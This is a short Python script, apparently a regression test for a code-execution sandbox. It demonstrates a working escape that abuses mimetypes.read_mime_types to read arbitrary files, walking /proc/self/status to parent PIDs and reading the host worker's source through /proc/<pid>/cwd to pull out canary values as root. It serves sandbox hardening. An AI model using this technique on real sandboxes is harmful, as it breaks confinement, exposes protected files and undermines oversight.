# ruff: noqa - a hostile script, kept as written
# threat: 1 reach the operating system
# technique: mimetypes.read_mime_types(path) opens any file and hands back its words: /proc/self/status -> the worker's pid -> /proc/<worker>/cwd/<host source>
# why: a function of an allowed module opens a path the script chooses; the child runs as root, so every file of the machine is readable
# escapes: runner a75ee23, wide allowlist
import mimetypes


def words(path):
    """Each line "first rest..." of the file comes back as {".rest": "first"}."""
    return mimetypes.read_mime_types(path) or {}


def parent_of(pid):
    for suffix, first in words("/proc/%s/status" % pid).items():
        if first == "PPid:":
            return suffix[1:]


# Reading a file of the machine is the escape; the worker's source (as root) follows.
status = words("/proc/self/status")
found = ["/proc/self/status: " + ", ".join(
    first + " " + suffix[1:] for suffix, first in status.items() if first in ("Name:", "PPid:"))]
try:
    worker = parent_of(parent_of("self"))  # the fork server's parent
    for name in ("tests/sandbox/hosts/lmcache_host.py", "sandbox/hosts/lmcache_host.py",
                 "hosts/lmcache_host.py", "lmcache_host.py"):
        for suffix, first in words("/proc/%s/cwd/%s" % (worker, name)).items():
            if first.endswith("_CANARY"):
                found.append("worker %s's source (through /proc/%s/cwd): %s = %s" % (
                    worker, worker, first, suffix[1:]))
except Exception as exc:
    found.append("stopped by %r" % exc)
result = "ESCAPED files read: " + "; ".join(found)
